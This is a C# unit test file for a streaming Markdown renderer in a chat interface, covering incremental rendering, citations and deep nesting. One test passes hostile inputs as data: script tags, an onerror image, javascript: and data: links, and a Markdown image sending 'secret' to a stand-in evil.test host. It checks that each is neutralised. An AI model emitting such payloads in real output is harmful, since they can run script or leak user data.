using System.Text.RegularExpressions;
using Noos.Core.Conversations;
using Noos.Pages.Text;

namespace Noos.Pages.Tests;

/// <summary>Markdown as it is written, character by character.</summary>
public sealed partial class StreamedMarkdownTests
{
    const string Long =
        """
        # Title of it

        A paragraph with **bold text**, *slanted text*, `code a`, ~~gone~~ and a [link to a page](https://example.org/a_b) behind.

        1. One
        2. Two with `a * b`
           - inner **strong**

        | Name | Value |
        |------|------:|
        | a    | 1     |
        | b    | 2     |

        ```csharp
        var a = "**no bold**";
        if (a < b) { }
        ```

        > Quoted words

        Last words with 2 * 3 * 4 and snake_case_name.
        """;

    [Fact]
    public void Text_comes_to_the_same_as_at_once_wherever_it_is_cut()
    {
        var whole = new StreamedMarkdown();
        whole.Append(Long);
        whole.Complete();

        for (var cut = 1; cut < Long.Length; cut += 3)
        {
            var streamed = new StreamedMarkdown();
            streamed.Append(Long[..cut]);
            _ = streamed.Blocks;
            streamed.Append(Long[cut..]);
            streamed.Complete();
            Assert.Equal(Html(whole), Html(streamed));
        }
    }

    [Fact]
    public void Nothing_is_drawn_half_while_it_streams()
    {
        var streamed = new StreamedMarkdown();
        foreach (var letter in Long)
        {
            streamed.Append(letter.ToString());
            var seen = Tags().Replace(Code().Replace(Html(streamed), ""), "");

            Assert.DoesNotContain("**", seen, StringComparison.Ordinal);
            Assert.DoesNotContain("~~", seen, StringComparison.Ordinal);
            Assert.DoesNotContain("`", seen, StringComparison.Ordinal);
            Assert.DoesNotContain("](", seen, StringComparison.Ordinal);
            Assert.DoesNotContain("https", seen, StringComparison.Ordinal);
            Assert.DoesNotContain("|", seen, StringComparison.Ordinal);
            Assert.DoesNotContain("#", seen, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Block_that_is_over_is_the_same_object_ever_after()
    {
        var streamed = new StreamedMarkdown();
        streamed.Append("One.\n\nTwo.\n\nThr");
        var before = streamed.Blocks;
        streamed.Append("ee.\n\nFour.");

        Assert.Equal(3, before.Count);
        Assert.Same(before[0], streamed.Blocks[0]);
        Assert.Same(before[1], streamed.Blocks[1]);
        Assert.Equal(4, streamed.Blocks.Count);
    }

    [Fact]
    public void Open_code_is_drawn_in_pieces_whose_beginning_stays()
    {
        var streamed = new StreamedMarkdown();
        streamed.Append("```python\n" + string.Concat(Enumerable.Range(0, 60).Select(i => $"line({i})\n")));

        var open = streamed.Blocks[^1];

        Assert.Equal("python", open.Language);
        Assert.Equal(3, open.Code!.Count);
        Assert.StartsWith("line(0)\n", open.Code[0], StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>", "&lt;script&gt;")]
    [InlineData("<img src=x onerror=alert(1)>", "&lt;img")]
    [InlineData("[a](javascript:alert(1))", "<p>a</p>")]
    [InlineData("[a](data:text/html,x)", "<p>a</p>")]
    [InlineData("![cat](https://evil.test/?q=secret)", "🖼 cat</a>")]
    [InlineData("<javascript:alert(1)>", "<p>javascript:alert(1)</p>")]
    public void Markup_and_strange_addresses_are_text(string markdown, string expected)
    {
        var html = MarkdownRenderer.Render(markdown);

        Assert.Contains(expected, html, StringComparison.Ordinal);
        Assert.DoesNotContain("<img", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", html, StringComparison.Ordinal);
        Assert.DoesNotContain("=\"javascript", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Number_in_brackets_leads_to_its_passage_and_any_other_is_text()
    {
        var citations = new CitationLinks("turn-1");
        citations.Add(new ToolResultPart(
            "search", [new TextPart("It was built in 1889.") { Citation = new Citation(1, "Eiffel \"Tower\"", "https://e.test/") }]));

        var later = new CitationLinks("turn-2", citations);
        later.Add(new ToolResultPart("search", [new TextPart("It is tall.") { Citation = new Citation(4, "Height", "b") }]));

        var html = MarkdownRenderer.Render("Built in 1889 [1, 4], not [2]; see [3](https://a.test).", later);

        Assert.Contains("data-source=\"turn-1-source-1\"", html, StringComparison.Ordinal);
        Assert.Contains("data-source=\"turn-2-source-4\"", html, StringComparison.Ordinal);
        Assert.Contains("Eiffel &quot;Tower&quot;", html, StringComparison.Ordinal);
        Assert.Contains("not [2]", html, StringComparison.Ordinal);
        Assert.Contains(">3</a>", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("> ", 400)]
    [InlineData("- ", 400)]
    [InlineData("**a ", 3000)]
    [InlineData("[", 3000)]
    [InlineData("![", 3000)]
    [InlineData("[a](", 3000)]
    public void Text_nested_too_deeply_is_shown_as_it_stands(string mark, int count)
    {
        var end = mark == "**a " ? string.Concat(Enumerable.Repeat("**", count)) : "";
        var text = "Before.\n\n" + string.Concat(Enumerable.Repeat(mark, count)) + "<b>deep" + end + "\n\nAfter.";
        var streamed = new StreamedMarkdown();
        foreach (var piece in text.Chunk(500))
        {
            streamed.Append(new string(piece));
            _ = streamed.Blocks;
        }

        streamed.Complete();
        var html = Html(streamed);

        Assert.Contains("Before.", html, StringComparison.Ordinal);
        Assert.Contains("&lt;b&gt;deep", html, StringComparison.Ordinal);
        Assert.Contains("After.", html, StringComparison.Ordinal);
    }

    static string Html(StreamedMarkdown streamed) =>
        string.Concat(streamed.Blocks.Select(block => block.Code is null ? block.Html : "<pre>" + string.Concat(block.Code) + "</pre>"));

    [GeneratedRegex("<pre.*?</pre>", RegexOptions.Singleline | RegexOptions.ExplicitCapture, matchTimeoutMilliseconds: 10_000)]
    private static partial Regex Code();

    [GeneratedRegex("<[^>]*>", RegexOptions.ExplicitCapture, matchTimeoutMilliseconds: 10_000)]
    private static partial Regex Tags();
}
